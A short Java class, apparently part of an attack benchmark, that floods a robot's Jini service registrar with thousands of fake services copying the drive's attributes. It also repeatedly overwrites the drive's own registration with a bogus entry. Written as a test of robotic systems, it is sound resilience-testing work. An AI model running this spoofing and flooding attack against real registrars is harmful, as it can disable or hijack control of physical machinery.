package org.dfra.benchmarks.attack;

import java.util.Random;
import net.jini.core.lookup.ServiceID;
import net.jini.core.lookup.ServiceItem;
import net.jini.core.lookup.ServiceRegistrar;

/**
 * Registers fake modules with the robot's registrar: with the service ID of the robot's drive, and
 * with thousands of new ones, with the drive's attributes.
 */
final class FakeModules extends AttackTask {

  private static final long LEASE_MILLIS = 30_000;
  private static final int FAKES = 3_000;

  private final Random random = new Random(66);
  private int registered;

  /** Called by {@code TaskMain} by reflection. */
  public FakeModules() {}

  @Override
  protected void attack(Target target) throws Exception {
    ServiceRegistrar registrar = target.registrar();
    ServiceItem drive = target.drive();
    while (!isStopping()) {
      if (registered < FAKES) {
        ServiceID fresh = new ServiceID(random.nextLong(), random.nextLong());
        ServiceItem fake = new ServiceItem(fresh, drive.service, drive.attributeSets);
        if (attempt(() -> registrar.register(fake, LEASE_MILLIS)) != null) {
          registered++;
        }
      } else {
        pause(1);
      }
      ServiceItem changed = new ServiceItem(drive.serviceID, "fake", drive.attributeSets);
      var unused = attempt(() -> registrar.register(changed, LEASE_MILLIS));
    }
  }
}
